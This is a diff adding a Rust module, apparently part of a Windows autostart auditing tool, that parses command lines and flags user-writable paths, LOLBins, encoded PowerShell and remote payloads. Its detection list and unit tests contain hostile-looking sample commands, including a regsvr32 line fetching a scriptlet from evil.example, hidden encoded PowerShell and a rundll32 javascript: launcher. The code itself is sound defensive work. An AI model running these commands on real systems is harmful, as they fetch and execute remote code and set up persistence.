@@ -0,0 +1,296 @@
+//! Works out which program an autostart command line runs, and what about it looks suspicious. Everything
+//! here only takes text, so it's tested with sample command lines on any OS.
+use std::collections::BTreeMap;
+use std::fmt;
+
+use serde::{Deserialize, Serialize};
+
+/// Something about an autostart entry worth a second look
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub enum Trait {
+    /// The program lives somewhere a normal user can write to
+    UserWritablePath,
+    /// A built-in Windows program commonly used to run attacker code
+    Lolbin(String),
+    /// PowerShell given a Base64 encoded command
+    EncodedPowerShell,
+    /// The command pulls something from a URL or a network share
+    RemotePayload
+}
+
+impl fmt::Display for Trait {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Trait::UserWritablePath => write!(f, "User-Writable Path"),
+            Trait::Lolbin(name) => write!(f, "LOLBin ({})", name),
+            Trait::EncodedPowerShell => write!(f, "Encoded PowerShell"),
+            Trait::RemotePayload => write!(f, "Remote Payload")
+        }
+    }
+}
+
+/// Programs that ship with Windows and can run scripts, DLLs, or downloads on an attacker's behalf
+pub const LOLBINS: &[&str] = &[
+    "mshta.exe", "regsvr32.exe", "certutil.exe", "bitsadmin.exe", "wscript.exe", "cscript.exe", "msbuild.exe",
+    "installutil.exe", "regasm.exe", "regsvcs.exe", "cmstp.exe", "forfiles.exe", "pcalua.exe", "odbcconf.exe",
+    "wmic.exe", "msxsl.exe", "hh.exe", "scriptrunner.exe", "msdt.exe"
+];
+
+/// Folders under a user's control. Anything started from here can be swapped out without administrator rights
+const USER_WRITABLE: &[&str] = &[
+    "\\USERS\\", "\\APPDATA\\", "\\TEMP\\", "\\TMP\\", "\\WINDOWS\\TASKS\\", "\\WINDOWS\\TRACING\\",
+    "\\SPOOL\\DRIVERS\\COLOR\\", "%TEMP%", "%TMP%", "%APPDATA%", "%LOCALAPPDATA%", "%USERPROFILE%", "%PUBLIC%"
+];
+
+/// Splits a command line into arguments the way `CommandLineToArgvW` does
+pub fn split_arguments(command: &str) -> Vec<String> {
+    /*
+        Shugo: Windows Command Lines
+
+        Windows hands a program its command line as one string, and each program splits it up itself. Nearly
+        all of them follow the rules of `CommandLineToArgvW`:
+
+        - Spaces and tabs separate arguments, unless they're inside double quotes
+        - 2n backslashes before a quote become n backslashes, and the quote starts or ends a quoted part
+        - 2n+1 backslashes before a quote become n backslashes and a literal quote
+        - Backslashes anywhere else are kept as they are, which is why `C:\Windows\` needs no escaping
+
+        For more information on `CommandLineToArgvW`:
+        (https://learn.microsoft.com/en-us/cpp/c-language/parsing-c-command-line-arguments)
+    */
+    let mut arguments = Vec::new();
+    let mut current = String::new();
+    let mut in_argument = false;
+    let mut quoted = false;
+    let mut backslashes = 0usize;
+    for c in command.chars() {
+        match c {
+            '\\' => {
+                backslashes += 1;
+                in_argument = true;
+            },
+            '"' => {
+                current.push_str(&"\\".repeat(backslashes / 2));
+                if backslashes % 2 == 1 {
+                    current.push('"');
+                } else {
+                    quoted = !quoted;
+                }
+                backslashes = 0;
+                in_argument = true;
+            },
+            ' ' | '\t' if !quoted => {
+                current.push_str(&"\\".repeat(backslashes));
+                backslashes = 0;
+                if in_argument {
+                    arguments.push(std::mem::take(&mut current));
+                    in_argument = false;
+                }
+            },
+            other => {
+                current.push_str(&"\\".repeat(backslashes));
+                backslashes = 0;
+                current.push(other);
+                in_argument = true;
+            }
+        }
+    }
+    current.push_str(&"\\".repeat(backslashes));
+    if in_argument {
+        arguments.push(current);
+    }
+    arguments
+}
+
+/// Replaces `%NAME%` with its value from `environment` (keys in upper case), unknown names are left alone
+pub fn expand_environment(text: &str, environment: &BTreeMap<String, String>) -> String {
+    let mut expanded = String::new();
+    let mut rest = text;
+    while let Some(start) = rest.find('%') {
+        let Some(length) = rest[start + 1..].find('%') else {break};
+        let name = &rest[start + 1..start + 1 + length];
+        expanded.push_str(&rest[..start]);
+        match environment.get(&name.to_ascii_uppercase()) {
+            Some(value) if !name.is_empty() => {
+                expanded.push_str(value);
+                rest = &rest[start + length + 2..];
+            },
+            _ => {
+                // Keep the first % and look for the next variable from the closing one
+                expanded.push('%');
+                rest = &rest[start + 1..];
+            }
+        }
+    }
+    expanded.push_str(rest);
+    expanded
+}
+
+/// The program a command line starts, with environment variables expanded and NT path prefixes removed
+pub fn resolve_binary(command: &str, environment: &BTreeMap<String, String>) -> Option<String> {
+    /*
+        Shugo: Which Program Runs
+
+        Autostart commands aren't always tidy paths:
+
+        - Unquoted paths with spaces: `C:\Program Files\App\app.exe /background`. Windows tries
+          `C:\Program.exe`, then `C:\Program Files\App\app.exe`, which is the "unquoted service path" trick.
+          We take everything up to the first `.exe`
+        - Bare names like `rundll32.exe`, found through the search path, which for these is System32
+        - Service paths written the NT way, like `\SystemRoot\System32\drivers\x.sys`, `\??\C:\x.exe`,
+          or just `System32\x.exe` relative to the Windows folder
+    */
+    let command = command.trim();
+    if command.is_empty() {
+        return None;
+    }
+    let program = if let Some(rest) = command.strip_prefix('"') {
+        rest.split('"').next().unwrap_or(rest).to_string()
+    } else {
+        let upper = command.to_ascii_uppercase();
+        let exe_end = upper.match_indices(".EXE").map(|(index, _)| index + 4)
+            .find(|end| upper[*end..].chars().next().is_none_or(|c| c == ' ' || c == '\t' || c == ','));
+        match exe_end {
+            Some(end) => command[..end].to_string(),
+            None => split_arguments(command).into_iter().next()?
+        }
+    };
+
+    let mut path = expand_environment(&program, environment);
+    if let Some(rest) = path.strip_prefix("\\??\\") {
+        path = rest.to_string();
+    }
+    let windows = environment.get("SYSTEMROOT").cloned().unwrap_or_else(|| "%SystemRoot%".to_string());
+    let upper = path.to_ascii_uppercase();
+    if upper.starts_with("\\SYSTEMROOT\\") {
+        path = format!("{}{}", windows, &path["\\SystemRoot".len()..]);
+    } else if upper.starts_with("SYSTEM32\\") || upper.starts_with("SYSWOW64\\") {
+        path = format!("{}\\{}", windows, path);
+    } else if !path.contains('\\') && !path.contains('/') {
+        let name = if path.contains('.') {path} else {format!("{}.exe", path)};
+        path = format!("{}\\System32\\{}", windows, name);
+    }
+    Some(path)
+}
+
+/// The file name at the end of a path, in lower case
+pub fn file_name(path: &str) -> String {
+    path.rsplit(['\\', '/']).next().unwrap_or(path).to_ascii_lowercase()
+}
+
+/// Whether a normal user could replace what's at `path`
+pub fn is_user_writable(path: &str) -> bool {
+    let upper = path.replace('/', "\\").to_ascii_uppercase();
+    USER_WRITABLE.iter().any(|folder| upper.contains(folder))
+}
+
+/// Everything suspicious about one autostart command
+pub fn command_traits(command: &str, binary: Option<&str>) -> Vec<Trait> {
+    /*
+        Shugo: Suspicious Autostart Traits
+
+        None of these mean an entry is malicious on its own, but they're what persistence set up by malware
+        tends to look like:
+
+        - User-writable path: anything that starts for every user or as SYSTEM should come from a folder only
+          administrators can change, otherwise a normal user (or malware running as one) can replace it
+        - LOLBins ("living off the land" binaries): signed Windows programs like mshta or regsvr32 that can be
+          pointed at a script or DLL, so the autostart entry itself looks like Windows
+        - Encoded PowerShell: `-EncodedCommand` takes the script as Base64, hiding what it does from a quick look
+        - Remote payloads: a URL or \\server\share in the command means what runs can change without touching
+          this machine
+
+        For more information on LOLBins:
+        (https://lolbas-project.github.io/)
+    */
+    let mut traits = Vec::new();
+    let arguments = split_arguments(command);
+    let lower = command.to_ascii_lowercase();
+
+    if binary.is_some_and(is_user_writable) {
+        traits.push(Trait::UserWritablePath);
+    }
+
+    let name = binary.map(file_name).unwrap_or_default();
+    if LOLBINS.contains(&name.as_str()) || (name == "rundll32.exe" && lower.contains("javascript:")) {
+        traits.push(Trait::Lolbin(name.clone()));
+    }
+
+    let powershell = matches!(name.as_str(), "powershell.exe" | "pwsh.exe");
+    let encoded_flag = arguments.iter().skip(1).any(|argument| {
+        let Some(flag) = argument.strip_prefix('-').or_else(|| argument.strip_prefix('/')) else {return false};
+        let flag = flag.to_ascii_lowercase();
+        // PowerShell accepts any prefix of -EncodedCommand (-e, -enc, ...) and the alias -ec
+        flag == "ec" || (!flag.is_empty() && "encodedcommand".starts_with(&flag))
+    });
+    if (powershell && encoded_flag) || lower.contains("frombase64string") {
+        traits.push(Trait::EncodedPowerShell);
+    }
+
+    let remote = lower.contains("http://") || lower.contains("https://")
+        || arguments.iter().any(|argument| argument.starts_with("\\\\") && !argument.starts_with("\\\\?\\") && !argument.starts_with("\\\\.\\"))
+        || binary.is_some_and(|binary| binary.starts_with("\\\\") && !binary.starts_with("\\\\?\\"));
+    if remote {
+        traits.push(Trait::RemotePayload);
+    }
+    traits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn environment() -> BTreeMap<String, String> {
+        BTreeMap::from([
+            ("SYSTEMROOT".to_string(), "C:\\Windows".to_string()),
+            ("PROGRAMFILES".to_string(), "C:\\Program Files".to_string()),
+            ("APPDATA".to_string(), "C:\\Users\\alice\\AppData\\Roaming".to_string())
+        ])
+    }
+
+    #[test]
+    fn splits_like_windows() {
+        assert_eq!(split_arguments("\"C:\\Program Files\\App\\app.exe\" /start  -x"), ["C:\\Program Files\\App\\app.exe", "/start", "-x"]);
+        assert_eq!(split_arguments("a\\\\\\\"b \"c d\"\\\\ e\\f"), ["a\\\"b", "c d\\\\", "e\\f"]);
+        assert_eq!(split_arguments("  "), Vec::<String>::new());
+    }
+
+    #[test]
+    fn expands_known_variables_only() {
+        let environment = environment();
+        assert_eq!(expand_environment("%SystemRoot%\\system32\\svchost.exe -k netsvcs", &environment), "C:\\Windows\\system32\\svchost.exe -k netsvcs");
+        assert_eq!(expand_environment("%NOPE%\\%appdata%\\x 100%", &environment), "%NOPE%\\C:\\Users\\alice\\AppData\\Roaming\\x 100%");
+    }
+
+    #[test]
+    fn resolves_binaries() {
+        let environment = environment();
+        let resolve = |command: &str| resolve_binary(command, &environment).unwrap();
+        assert_eq!(resolve("C:\\Program Files\\App\\app.exe /background"), "C:\\Program Files\\App\\app.exe");
+        assert_eq!(resolve("\"%ProgramFiles%\\App\\app.exe\" --min"), "C:\\Program Files\\App\\app.exe");
+        assert_eq!(resolve("rundll32.exe shell32.dll,Control_RunDLL"), "C:\\Windows\\System32\\rundll32.exe");
+        assert_eq!(resolve("mshta vbscript:Execute(\"x\")"), "C:\\Windows\\System32\\mshta.exe");
+        assert_eq!(resolve("\\SystemRoot\\System32\\drivers\\acpi.sys"), "C:\\Windows\\System32\\drivers\\acpi.sys");
+        assert_eq!(resolve("System32\\drivers\\disk.sys"), "C:\\Windows\\System32\\drivers\\disk.sys");
+        assert_eq!(resolve("\\??\\C:\\Tools\\agent.exe"), "C:\\Tools\\agent.exe");
+        assert_eq!(resolve("C:\\Windows\\system32\\userinit.exe,"), "C:\\Windows\\system32\\userinit.exe");
+        assert_eq!(resolve_binary("rundll32", &BTreeMap::new()).unwrap(), "%SystemRoot%\\System32\\rundll32.exe");
+        assert_eq!(resolve_binary("  ", &environment), None);
+    }
+
+    #[test]
+    fn finds_suspicious_traits() {
+        let traits = |command: &str| command_traits(command, resolve_binary(command, &environment()).as_deref());
+        assert!(traits("\"C:\\Program Files\\App\\app.exe\" /background").is_empty());
+        assert_eq!(traits("C:\\Users\\alice\\AppData\\Roaming\\upd.exe"), [Trait::UserWritablePath]);
+        assert_eq!(traits("%TEMP%\\a.exe"), [Trait::UserWritablePath]);
+        assert_eq!(traits("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll"), [Trait::Lolbin("regsvr32.exe".to_string()), Trait::RemotePayload]);
+        assert_eq!(traits("powershell.exe -nop -w hidden -enc SQBFAFgA"), [Trait::EncodedPowerShell]);
+        assert_eq!(traits("pwsh -E SQBFAFgA"), [Trait::EncodedPowerShell]);
+        assert!(traits("powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\logon.ps1").is_empty());
+        assert_eq!(traits("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""), [Trait::Lolbin("rundll32.exe".to_string())]);
+        assert!(traits("rundll32.exe C:\\Windows\\System32\\shell32.dll,Options_RunDLL").is_empty());
+        assert_eq!(traits("cmd.exe /c \\\\fileserver\\share\\run.bat"), [Trait::RemotePayload]);
+        assert_eq!(Trait::Lolbin("mshta.exe".to_string()).to_string(), "LOLBin (mshta.exe)");
+    }
+}